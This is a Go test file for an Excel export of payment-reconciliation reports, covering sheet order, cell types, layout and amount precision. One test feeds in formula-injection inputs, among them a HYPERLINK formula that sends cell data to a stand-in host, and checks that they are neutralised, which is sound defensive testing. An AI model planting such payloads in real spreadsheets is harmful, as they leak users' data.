package xlsx

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"paybook/models"
	"paybook/reconcile"
	"paybook/reconcile/lang"
)

const longID = "4200002026112800000000000001"

func gap(id string, kind models.GapKind, amount, currency string) reconcile.GapReport {
	return reconcile.GapReport{ID: id, Kind: kind, EntryKind: models.Payment, TransactionID: longID, OrderID: "O-1", State: models.GapOpen, New: true,
		Statement: &models.Side{Amount: amount, Currency: currency, Status: "succeeded", File: "bill.csv", Line: 7}, Next: "app gaps show " + id,
		Reason:    "bill.csv, row 7 has this payment of " + amount + " " + currency + ", the book does not: its callback never arrived or was refused",
		FirstSeen: "2026-11-29", AgeDays: 3, Evidence: "h0"}
}

func report() *reconcile.Report {
	return &reconcile.Report{
		Account: "shop", Provider: "wechatpay", Date: "2026-11-28", TimeZone: "Asia/Shanghai", RunID: "0192", Result: models.Gapped, Compared: 9, Matched: 6,
		Statement: reconcile.StatementReport{Entries: 10, Totals: []reconcile.Total{{Kind: models.Payment, Currency: "CNY", Count: 9, Amount: "180.00", Fee: "1.08"}}},
		Ledger:    reconcile.LedgerReport{Totals: []reconcile.Total{{Kind: models.Payment, Currency: "CNY", Count: 8, Amount: "160.00"}}},
		Gaps: []reconcile.GapReport{gap("a1", models.GapMissingLocal, "20.00", "CNY"), gap("a2", models.GapMissingLocal, "500", "JPY"),
			gap("a3", models.GapAmount, "5.120", "KWD"), gap("a4", models.GapAmount, "-5.00", "CNY")},
		Carried: []reconcile.GapReport{{ID: "c1", Kind: models.GapMissingLocal, State: models.GapCarried, DueOn: "2026-12-05", Owner: "=wang"}},
		Summary: map[models.GapKind]int{models.GapMissingLocal: 2, models.GapAmount: 2},
		Notes:   []string{"a.csv: the same statement as b.csv, read once"},
		Repair: &reconcile.RepairReport{ID: "rep-1", Items: []reconcile.RepairItemReport{
			{GapID: "a1", State: models.ItemBooked, Kind: models.Payment, TransactionID: longID, OrderID: "=O", Amount: "20.00", Currency: "CNY", Outcome: models.OutcomeApplied,
				Messages: []string{"order.paid"}, Result: "the book has it by now"},
			{GapID: "a3", State: models.ItemNotRepairable, Kind: models.Payment, TransactionID: longID, Amount: "5.120", Currency: "KWD", Why: "there is nothing to book", Next: "app orders show O-1"},
		}},
		Bank: &reconcile.BankReport{Bank: "main", Currency: "EUR", Matched: []reconcile.BankMatchReport{{How: "reference", BankFee: "0.50",
			Payouts: []reconcile.BankPayoutReport{{Account: "stripe", PayoutID: "po_77", Date: "2026-11-27", Amount: "10.00", Currency: "EUR"}},
			Lines:   []reconcile.BankLineReport{{Date: "2026-11-28", Amount: "9.50", Reference: "REF"}}}}},
		Bridges: []reconcile.Bridge{{Account: "shop", PayoutID: "00012", Date: "2026-11-29", Currency: "CNY", Expected: "170.00", Paid: "169.00", Remainder: "-1.00",
			Steps: []reconcile.BridgeStep{{Step: "payments", Count: 9, Amount: "170.00"}}}},
	}
}

func items() []reconcile.Item {
	return []reconcile.Item{{Report: report()}, {Account: "other", Err: errors.New("no statement")}}
}

func written(t *testing.T, l lang.Language) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := Write(&out, items(), l); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func opened(t *testing.T, content []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// at is the cell of a column, by its title, in a row of a sheet.
func at(t *testing.T, f *excelize.File, sheet, title string, row int) string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil || len(rows) == 0 {
		t.Fatalf("%s: %d rows, %v", sheet, len(rows), err)
	}
	name, err := excelize.CoordinatesToCellName(slices.Index(rows[0], title)+1, row)
	if err != nil {
		t.Fatalf("%s has no column %s: %v", sheet, title, rows[0])
	}
	return name
}

// TestSheets: the summary first, then a sheet for each kind in the order of the report.
func TestSheets(t *testing.T) {
	for l, want := range map[lang.Language][]string{lang.English: {"Summary", "missing_local", "amount_mismatch"}, lang.Chinese: {"汇总", "账簿缺失", "金额不符"}} {
		f := opened(t, written(t, l))
		if got := f.GetSheetList(); !slices.Equal(got, want) {
			t.Errorf("%s: sheets %q, want %q", l, got, want)
		}
		rows, err := f.GetRows(want[1])
		if err != nil || len(rows) != 1+3 {
			t.Errorf("%s: %d rows of %s, %v", l, len(rows), want[1], err)
		}
		for _, title := range []string{reconcile.ColumnGap, reconcile.ColumnOwner, reconcile.ColumnDueOn, reconcile.ColumnDecision, reconcile.ColumnNote, reconcile.ColumnEvidence} {
			if !slices.Contains(rows[0], title) {
				t.Errorf("%s: the column %s, which is read back, is missing: %q", l, title, rows[0])
			}
		}
	}
}

// TestTypes: ids are text to their last digit, amounts and counts are numbers as the currency shows them, days are days.
func TestTypes(t *testing.T) {
	f := opened(t, written(t, lang.English))
	for _, c := range []struct {
		sheet, column string
		row           int
		kind          excelize.CellType
		shown, raw    string
	}{
		{"missing_local", "transaction_id", 2, excelize.CellTypeInlineString, longID, longID},
		{"missing_local", "statement_amount", 2, excelize.CellTypeUnset, "20.00", "20"},
		{"missing_local", "statement_amount", 3, excelize.CellTypeUnset, "500", "500"},
		{"missing_local", "statement_line", 2, excelize.CellTypeUnset, "7", "7"},
		{"missing_local", "date", 2, excelize.CellTypeUnset, "2026-11-28", "46354"},
		{"missing_local", "first_seen", 2, excelize.CellTypeUnset, "2026-11-29", "46355"},
		{"missing_local", "due_on", 4, excelize.CellTypeUnset, "2026-12-05", "46361"},
		{"missing_local", "owner", 4, excelize.CellTypeInlineString, "'=wang", "'=wang"},
		{"missing_local", "ledger_amount", 2, excelize.CellTypeUnset, "", ""},
		{"amount_mismatch", "statement_amount", 2, excelize.CellTypeUnset, "5.120", "5.12"},
		{"amount_mismatch", "statement_amount", 3, excelize.CellTypeUnset, "-5.00", "-5"},
		{"amount_mismatch", "evidence", 2, excelize.CellTypeInlineString, "h0", "h0"},
	} {
		cell := at(t, f, c.sheet, c.column, c.row)
		shown, err1 := f.GetCellValue(c.sheet, cell)
		raw, err2 := f.GetCellValue(c.sheet, cell, excelize.Options{RawCellValue: true})
		kind, err3 := f.GetCellType(c.sheet, cell)
		if shown != c.shown || raw != c.raw || err1 != nil || err2 != nil || err3 != nil || c.raw != "" && kind != c.kind {
			t.Errorf("%s, %s, row %d: shown %q, raw %q, type %v, want %+v; %v %v %v", c.sheet, c.column, c.row, shown, raw, kind, c, err1, err2, err3)
		}
	}
}

// TestNoFormulas is F72: nothing in the workbook is a formula, and what looks like one does not become one in a CSV made of it.
func TestNoFormulas(t *testing.T) {
	r := report()
	r.Gaps = nil
	evil := []string{`=HYPERLINK("http://x.test/?"&A1)`, "@SUM(1)", "+1+1", "-1+1", "\t=1", "＝1", "_x003D_1"}
	for i, id := range evil {
		g := gap("e"+strconv.Itoa(i), models.GapMissingLocal, "-5.00", "CNY")
		g.OrderID, g.Reason, g.Next = id, id, id
		r.Gaps = append(r.Gaps, g)
	}
	var out bytes.Buffer
	if err := Write(&out, []reconcile.Item{{Report: r}}, lang.English); err != nil {
		t.Fatal(err)
	}
	for name, text := range members(t, out.Bytes()) {
		if strings.HasPrefix(name, "xl/worksheets/") && regexp.MustCompile(`<f[ >]`).MatchString(text) {
			t.Errorf("%s has a formula", name)
		}
	}
	f := opened(t, out.Bytes())
	for i, id := range evil {
		want := "'" + strings.TrimPrefix(id, "\t")
		if id[0] == '_' {
			want = id
		}
		if got, _ := f.GetCellValue("missing_local", at(t, f, "missing_local", "order_id", i+2)); got != want {
			t.Errorf("the order is %q, want %q", got, want)
		}
	}
}

// TestSameBytes: the same report gives the same file, whatever order the library writes its parts in.
func TestSameBytes(t *testing.T) {
	first := written(t, lang.Chinese)
	for range 8 {
		if !bytes.Equal(first, written(t, lang.Chinese)) {
			t.Fatal("written twice it differs")
		}
	}
}

// TestLayout: the heading stays, can be filtered, and the decision is chosen from a list.
func TestLayout(t *testing.T) {
	sheet := members(t, written(t, lang.English))["xl/worksheets/sheet2.xml"]
	for _, want := range []string{`state="frozen"`, `ySplit="1"`, `<autoFilter ref="$A$1:$AH$4"`, `<dataValidation `, `sqref="AF2:AF4"`,
		strings.Join(reconcile.Decisions, ","), `customWidth="1"`} {
		if !strings.Contains(sheet, want) {
			t.Errorf("%s is missing", want)
		}
	}
}

// TestEveryCent: an amount is shown as it was written.
func TestEveryCent(t *testing.T) {
	var gaps []reconcile.GapReport
	for cents := 1; cents <= 10_000; cents += 53 {
		gaps = append(gaps, gap(fmt.Sprintf("%05d", cents), models.GapMissingLocal, models.Money{Minor: int64(cents), Currency: "CNY"}.Text(), "CNY"))
	}
	big := []string{"9999999999999.99", "-9999999999999.99", "92233720368547758.07", "-92233720368547758.07"} // 15 digits, more, and below zero
	for _, amount := range big {
		gaps = append(gaps, gap(amount, models.GapMissingLocal, amount, "CNY"))
	}
	var out bytes.Buffer
	if err := WriteGaps(&out, gaps, lang.English); err != nil {
		t.Fatal(err)
	}
	rows, err := opened(t, out.Bytes()).GetRows("missing_local")
	if err != nil || len(rows) != 1+len(gaps) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	column := slices.Index(rows[0], "statement_amount")
	for i, g := range gaps {
		if got := strings.ReplaceAll(rows[i+1][column], ",", ""); got != g.Statement.Amount {
			t.Errorf("%s is shown as %s", g.Statement.Amount, got)
		}
	}
}

// TestFurtherSheet: more rows than a sheet can have go on in the next one, each with its heading.
func TestFurtherSheet(t *testing.T) {
	var rows []reconcile.Row
	for i := range 7 {
		g := gap(fmt.Sprintf("g%d", i), models.GapDuplicatePayment, "1.00", "CNY")
		rows = append(rows, reconcile.Row{Account: "shop", Date: "2026-11-28", GapReport: &g})
	}
	kinds := map[models.GapKind][]reconcile.Row{models.GapDuplicatePayment: rows}
	var out bytes.Buffer
	if err := write(&out, lang.English, 4, kinds, func(b *workbook) { b.counts(kinds) }); err != nil {
		t.Fatal(err)
	}
	f := opened(t, out.Bytes())
	var got []string
	for _, sheet := range f.GetSheetList()[1:] {
		lines, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range lines {
			got = append(got, line[slices.Index(lines[0], reconcile.ColumnGap)])
		}
	}
	if want := "gap_id g0 g1 g2 gap_id g3 g4 g5 gap_id g6"; strings.Join(got, " ") != want {
		t.Errorf("gaps %q, want %q", got, want)
	}
}

// TestSummary: the first sheet tells of every run, the totals, the payouts with their remainder, and the notes.
func TestSummary(t *testing.T) {
	for l, want := range map[lang.Language][]string{
		lang.English: {"shop|wechatpay|2026-11-28|Asia/Shanghai|gaps|10|9|6|4|1|0|0192", "other||||could not be run|||||||no statement",
			"shop|2026-11-28|payment|CNY|9|180.00|1.08|8|160.00|20.00", "shop|2026-11-28|missing_local|missing_local|2", "shop|00012|2026-11-29|CNY|payments|9|170.00",
			"shop|00012|2026-11-29|CNY|remainder||-1.00",
			"shop|po_77|stripe|2026-11-27|10.00|2026-11-28|REF|9.50|0.50|reference",
			"shop|a1|" + longID + "|'=O|payment|20.00|CNY|booked|applied|order.paid||the book has it by now",
			"shop|a3|" + longID + "||payment|5.120|KWD|not_repairable|||app orders show O-1|there is nothing to book", "shop|2026-11-28|a.csv: the same statement as b.csv, read once"},
		lang.Chinese: {"shop|wechatpay|2026-11-28|Asia/Shanghai|有差异|10|9|6|4|1|0|0192", "other||||未能对账|||||||no statement",
			"shop|2026-11-28|支付|CNY|9|180.00|1.08|8|160.00|20.00", "shop|2026-11-28|a.csv：与 b.csv 是同一份账单，只读一次", "shop|00012|2026-11-29|CNY|未解释余额||-1.00",
			"shop|a1|" + longID + "|'=O|支付|20.00|CNY|已入账|已生效|order.paid||账簿已有记录"},
	} {
		f := opened(t, written(t, l))
		rows, err := f.GetRows(f.GetSheetList()[0])
		if err != nil {
			t.Fatal(err)
		}
		var lines []string
		for _, row := range rows {
			lines = append(lines, strings.Join(row, "|"))
		}
		for _, line := range want {
			if !slices.Contains(lines, line) && !slices.Contains(lines, "'"+line) {
				t.Errorf("%s: no line %q in\n%s", l, line, strings.Join(lines, "\n"))
			}
		}
	}
}

func members(t *testing.T, content []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, m := range z.File {
		r, err := m.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if !m.Modified.IsZero() && m.Modified.Year() > 1980 {
			t.Errorf("%s has a time: %v", m.Name, m.Modified)
		}
		out[m.Name] = string(text)
	}
	return out
}
